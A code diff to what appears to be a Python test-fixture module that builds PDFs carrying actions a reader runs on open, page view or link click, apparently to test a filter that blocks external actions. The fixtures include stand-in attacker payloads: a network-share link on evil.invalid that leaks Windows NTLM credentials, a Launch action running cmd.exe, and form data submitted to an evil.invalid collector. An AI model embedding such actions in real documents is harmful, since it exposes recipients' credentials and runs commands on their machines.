@@ -9,6 +9,7 @@ import io
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable
 
 from PIL import ExifTags, Image
 from PIL.PngImagePlugin import PngInfo
@@ -18,6 +19,7 @@ from pypdf.generic import (
     DictionaryObject,
     NameObject,
     NumberObject,
+    PdfObject,
     TextStringObject,
 )
 
@@ -241,3 +243,155 @@ def truncated_pdf() -> bytes:
 
 def pdf_header_then_garbage() -> bytes:
     return b"%PDF-1.7\n" + bytes(range(256)) * 8
+
+
+# PDFs with actions: what a reader does when the PDF opens, a page shows, or a link is clicked
+
+
+def pdf_action(kind: str, **entries: PdfObject) -> DictionaryObject:
+    """An action dictionary of kind ``kind`` (``"/URI"``, ``"/GoTo"``...) with its entries."""
+    action = DictionaryObject(
+        {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
+    )
+    for name, value in entries.items():
+        action[NameObject(f"/{name}")] = value
+    return action
+
+
+def _first_page_fit(writer: PdfWriter) -> ArrayObject:
+    return ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+
+
+def _url_file(url: str) -> DictionaryObject:
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Filespec"),
+            NameObject("/FS"): NameObject("/URL"),
+            NameObject("/F"): TextStringObject(url),
+        }
+    )
+
+
+# One action of each kind that reaches outside the document, as an attacker would write it.
+EXTERNAL_ACTIONS: dict[str, Callable[[], DictionaryObject]] = {
+    # A page of a file on a network share: opening it sends the official's Windows
+    # credentials (NTLM) to the share's server.
+    "GoToR": lambda: pdf_action(
+        "/GoToR",
+        F=TextStringObject("\\\\files.evil.invalid\\share\\report.pdf"),
+        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
+    ),
+    "URI": lambda: pdf_action("/URI", URI=TextStringObject("https://evil.invalid/seen?case=1")),
+    "Launch": lambda: pdf_action(
+        "/Launch",
+        F=TextStringObject("C:\\Windows\\System32\\cmd.exe"),
+        Win=DictionaryObject(
+            {
+                NameObject("/F"): TextStringObject("cmd.exe"),
+                NameObject("/P"): TextStringObject("/c calc"),
+            }
+        ),
+    ),
+    # A media player fed from a web address.
+    "Rendition": lambda: pdf_action(
+        "/Rendition",
+        OP=NumberObject(0),
+        R=DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Rendition"),
+                NameObject("/S"): NameObject("/MR"),
+                NameObject("/C"): DictionaryObject(
+                    {
+                        NameObject("/Type"): NameObject("/MediaClip"),
+                        NameObject("/S"): NameObject("/MCD"),
+                        NameObject("/D"): _url_file("https://evil.invalid/video.mp4"),
+                    }
+                ),
+            }
+        ),
+    ),
+    "SubmitForm": lambda: pdf_action(
+        "/SubmitForm", F=_url_file("https://evil.invalid/collect"), Flags=NumberObject(4)
+    ),
+    "ImportData": lambda: pdf_action(
+        "/ImportData", F=TextStringObject("\\\\files.evil.invalid\\share\\answers.fdf")
+    ),
+    # Not named in any list: only the few actions that stay inside the document pass.
+    "Sound": lambda: pdf_action("/Sound", Sound=NumberObject(0)),
+}
+
+# Where a PDF reader finds an action to take.
+ACTION_PLACES = (
+    "catalog_open_action",
+    "catalog_trigger",
+    "page_trigger",
+    "link",
+    "outline_item",
+    "after_an_internal_link",
+)
+
+
+def pdf_with_action(
+    action: DictionaryObject | Callable[[PdfWriter], DictionaryObject], place: str
+) -> bytes:
+    """A two-page PDF with ``action`` at ``place`` (one of ``ACTION_PLACES``).
+
+    ``action`` may be a function of the writer, for actions that point at a page of it.
+    """
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=595, height=842)
+    writer.add_blank_page(width=595, height=842)
+    made = action(writer) if callable(action) else action
+    reference = writer._add_object(made)
+    if place == "catalog_open_action":
+        writer.root_object[NameObject("/OpenAction")] = reference
+    elif place == "catalog_trigger":  # before the document closes
+        writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): reference})
+    elif place == "page_trigger":  # when the page opens
+        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): reference})
+    elif place in {"link", "after_an_internal_link"}:
+        if place == "after_an_internal_link":
+            first = pdf_action("/GoTo", D=_first_page_fit(writer))
+            first[NameObject("/Next")] = ArrayObject([reference])
+            reference = writer._add_object(first)
+        annotation = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): ArrayObject(
+                    [NumberObject(50), NumberObject(50), NumberObject(200), NumberObject(80)]
+                ),
+                NameObject("/A"): reference,
+            }
+        )
+        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    elif place == "outline_item":
+        outline_root = DictionaryObject({NameObject("/Type"): NameObject("/Outlines")})
+        outlines = writer._add_object(outline_root)
+        item = writer._add_object(
+            DictionaryObject(
+                {
+                    NameObject("/Title"): TextStringObject("Passport"),
+                    NameObject("/Parent"): outlines,
+                    NameObject("/A"): reference,
+                }
+            )
+        )
+        outline_root[NameObject("/First")] = item
+        outline_root[NameObject("/Last")] = item
+        outline_root[NameObject("/Count")] = NumberObject(1)
+        writer.root_object[NameObject("/Outlines")] = outlines
+    else:
+        raise ValueError(place)
+    return _write(writer)
+
+
+def internal_link(writer: PdfWriter) -> DictionaryObject:
+    """A link to the second page of the same document, with the page and the zoom."""
+    return pdf_action(
+        "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference, NameObject("/Fit")])
+    )
+
+
+def named_next_page(writer: PdfWriter) -> DictionaryObject:
+    return pdf_action("/Named", N=NameObject("/NextPage"))
